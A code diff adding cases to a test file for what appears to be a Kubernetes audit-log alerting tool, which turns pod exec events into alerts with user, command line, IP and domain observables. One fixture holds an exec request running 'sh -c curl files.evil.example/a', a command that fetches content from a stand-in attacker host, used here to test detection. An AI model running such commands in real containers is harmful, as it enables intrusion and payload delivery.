@@ -36,7 +36,7 @@ describe('a batch', () => {
         time: '2026-06-01T10:00:00.000001Z',
         title: 'alice did create pods/exec team-a/api-0: sh',
         pod: { namespace: 'team-a', name: 'api-0' },
-        process: { user: 'alice' },
+        process: { user: 'alice', commandLine: 'sh' },
         observables: [{ type: 'user', value: 'alice' }],
         mitre: ['T1609', 'TA0002'],
       },
@@ -68,6 +68,20 @@ describe('a batch', () => {
 });
 
 describe('one request', () => {
+  test('for an exec names the container, the command and what that connects to', () => {
+    const requestURI =
+      '/api/v1/namespaces/shop/pods/cart-1/exec?command=sh&command=-c&command=curl+files.evil.example%2Fa&container=app&stdin=true';
+    expect(alertOf(event({ ...target('pods', 'exec'), requestURI, sourceIPs: ['::ffff:198.51.100.4'] }))).toMatchObject({
+      container: { name: 'app' },
+      process: { user: 'eve', commandLine: 'sh -c curl files.evil.example/a' },
+      observables: [
+        { type: 'user', value: 'eve' },
+        { type: 'ip', value: '198.51.100.4' },
+        { type: 'domain', value: 'files.evil.example' },
+      ],
+    });
+  });
+
   test('has one id in all stages that answer it', () => {
     const exec = target('pods', 'exec');
     const started = alertOf(event({ ...exec, stage: 'ResponseStarted', responseStatus: { code: 101 } }));
